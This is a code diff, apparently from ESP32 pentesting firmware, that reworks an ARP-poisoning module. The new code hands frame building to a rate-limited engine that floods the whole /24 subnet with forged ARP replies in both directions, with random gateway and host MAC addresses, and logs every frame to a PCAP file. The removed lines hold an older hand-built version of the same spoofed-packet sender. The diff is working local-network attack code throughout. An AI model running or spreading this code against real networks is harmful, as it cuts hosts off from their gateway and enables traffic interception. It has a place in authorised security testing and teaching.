@@ -31,6 +31,7 @@
 #include <lwip/sockets.h>
 #include <lwip/sys.h>
 #include <lwip/timeouts.h>
+#include <modules/wifi/sniffer.h> //use PCAP file saving functions
 
 ARPoisoner::ARPoisoner(IPAddress gateway) { setup(gateway); }
 
@@ -50,6 +51,7 @@ bool ARPoisoner::arpPCAPfile() {
 
 void ARPoisoner::setup(IPAddress gateway) {
     if (!arpPCAPfile()) Serial.println("Fail creating ARP Pcap file");
+    writeHeader(pcapFile);
 
     for (int i = 0; i < 6; i++) {
         gatewayMAC[i] = random(256);
@@ -59,7 +61,18 @@ void ARPoisoner::setup(IPAddress gateway) {
         gatewayIP[i] = gateway[i];
         victimIP[i] = gateway[i];
     }
-    long tmp = 0;
+    victimIP[3] = 1;
+
+    uint8_t frame[frames::ARP_FRAME_LEN];
+    // Sends random Gateway MAC to all devices in the network
+    frames::buildArpReply(frame, sizeof(frame), gatewayMAC, gatewayIP, victimMAC, victimIP);
+    engine.addFrame(frame, sizeof(frame), patch_frame, this);
+    newPacketSD(millis() / 1000, (millis() % 1000) * 1000, sizeof(frame), frame, pcapFile);
+    // Sends Device random MACs back to gateway
+    frames::buildArpReply(frame, sizeof(frame), victimMAC, victimIP, gatewayMAC, gatewayIP);
+    engine.addFrame(frame, sizeof(frame), patch_frame, this);
+    newPacketSD(millis() / 1000, (millis() % 1000) * 1000, sizeof(frame), frame, pcapFile);
+
     drawMainBorderWithTitle("ARP Poisoning");
     padprintln("");
     padprintln("Sending ARP msg to all hosts");
@@ -67,98 +80,48 @@ void ARPoisoner::setup(IPAddress gateway) {
 
     padprintln("Press Any key to STOP.");
 
+    // 100 frames/s covers the whole /24 in both directions about every 5 seconds
+    if (!engine.start(100)) {
+        displayError("No interface found");
+        Serial.println("No interface found");
+        pcapFile.close();
+        return;
+    }
     loop();
 }
 
 void ARPoisoner::loop() {
     long tmp = 0;
     while (!check(AnyKeyPress)) {
-        if (tmp + 5000 < millis()) { // sends frames every 5 seconds
-            for (int i = 0; i < 6; i++) {
-                gatewayMAC[i] = random(256); // Create other random MAC to the Gateway
-            }
-
-            for (int i = 1; i < 255; i++) {
-                if (AnyKeyPress) break;
-                victimIP[3] = i;
-                for (int i = 0; i < 6; i++) {
-                    victimMAC[i] = random(256); // Create random MAC to all hosts
-                }
-
-                // Sends random Gateway MAC to all devices in the network
-                sendARPPacket(victimIP, victimMAC, gatewayIP, gatewayMAC, pcapFile);
-
-                // Sends Device random MACs back to gateway
-                sendARPPacket(gatewayIP, gatewayMAC, victimIP, victimMAC, pcapFile);
-
-                delay(10);
-                tft.drawRightString(
-                    "   " + String(victimIP[0]) + "." + String(victimIP[1]) + "." + String(victimIP[2]) +
-                        "." + String(i),
-                    tftWidth - 12,
-                    tftHeight - 16,
-                    1
-                );
-            }
+        if (tmp + 500 < millis()) {
+            tft.drawRightString(
+                "   " + String(victimIP[0]) + "." + String(victimIP[1]) + "." + String(victimIP[2]) + "." +
+                    String(victimIP[3]) + "  " + String(engine.stats().pps) + " pkt/s",
+                tftWidth - 12,
+                tftHeight - 16,
+                1
+            );
             tmp = millis();
-            tft.drawRightString("     Waiting...", tftWidth - 12, tftHeight - 16, 1);
         }
+        delay(50);
     }
+    engine.stop();
     pcapFile.close();
 }
 
-// Function provided by @Fl1p, thank you brother!
-// Função para enviar pacotes ARP falsificados
-void ARPoisoner::sendARPPacket(
-    uint8_t *targetIP, uint8_t *targetMAC, uint8_t *spoofedIP, uint8_t *spoofedMAC, File pcapFile
-) {
-    struct eth_hdr *ethhdr;
-    struct etharp_hdr *arphdr;
-    struct pbuf *p;
-    struct netif *netif;
-
-    // Obter interface de rede
-    netif = netif_list;
-    if (netif == NULL) {
-        Serial.println("Nenhuma interface de rede encontrada!");
-        return;
-    }
-
-    // Alocar pbuf para o pacote ARP
-    p = pbuf_alloc(PBUF_RAW, sizeof(struct eth_hdr) + sizeof(struct etharp_hdr), PBUF_RAM);
-    if (p == NULL) {
-        Serial.println("Falha ao alocar pbuf!");
-        return;
-    }
-
-    ethhdr = (struct eth_hdr *)p->payload;
-    arphdr = (struct etharp_hdr *)((u8_t *)p->payload + SIZEOF_ETH_HDR);
-
-    // Preencher cabeçalho Ethernet
-    MEMCPY(&ethhdr->dest, targetMAC, ETH_HWADDR_LEN); // MAC do alvo (vítima ou gateway)
-    MEMCPY(&ethhdr->src, spoofedMAC, ETH_HWADDR_LEN); // MAC do atacante (nosso)
-    ethhdr->type = PP_HTONS(ETHTYPE_ARP);
-
-    // Preencher cabeçalho ARP
-    arphdr->hwtype = PP_HTONS(1); // 1 é o código para Ethernet no campo hardware type (hwtype)
-    arphdr->proto = PP_HTONS(ETHTYPE_IP);
-    arphdr->hwlen = ETH_HWADDR_LEN;
-    arphdr->protolen = sizeof(ip4_addr_t);
-    arphdr->opcode = PP_HTONS(ARP_REPLY);
-
-    MEMCPY(&arphdr->shwaddr, spoofedMAC, ETH_HWADDR_LEN);    // MAC falsificado (gateway ou vítima)
-    MEMCPY(&arphdr->sipaddr, spoofedIP, sizeof(ip4_addr_t)); // IP falsificado (gateway ou vítima)
-    MEMCPY(&arphdr->dhwaddr, targetMAC, ETH_HWADDR_LEN);     // MAC real do alvo (vítima ou gateway)
-    MEMCPY(&arphdr->dipaddr, targetIP, sizeof(ip4_addr_t));  // IP real do alvo (vítima ou gateway)
-
-    // Enviar o pacote
-    netif->linkoutput(netif, p);
-    pbuf_free(p);
-    Serial.println("Pacote ARP enviado!");
-
-    // Capturar o pacote no arquivo PCAP
-    if (pcapFile) {
-        pcapFile.write((const uint8_t *)p->payload, p->tot_len); // don't know if it will work
-        pcapFile.flush();
+void ARPoisoner::patch_frame(uint8_t *frame, size_t len, uint8_t tmpl, uint32_t seq, void *ctx) {
+    ARPoisoner *self = static_cast<ARPoisoner *>(ctx);
+    if (tmpl == 0) {
+        uint8_t host = seq % 254 + 1;
+        if (host == 1) {
+            for (int i = 0; i < 6; i++) self->gatewayMAC[i] = random(256); // Other random MAC to the Gateway
+        }
+        self->victimIP[3] = host;
+        for (int i = 0; i < 6; i++) self->victimMAC[i] = random(256); // Random MAC to every host
+        frames::setArpSender(frame, self->gatewayMAC, self->gatewayIP);
+        frames::setArpTarget(frame, self->victimMAC, self->victimIP);
+    } else {
+        frames::setArpSender(frame, self->victimMAC, self->victimIP);
+        frames::setArpTarget(frame, self->gatewayMAC, self->gatewayIP);
     }
 }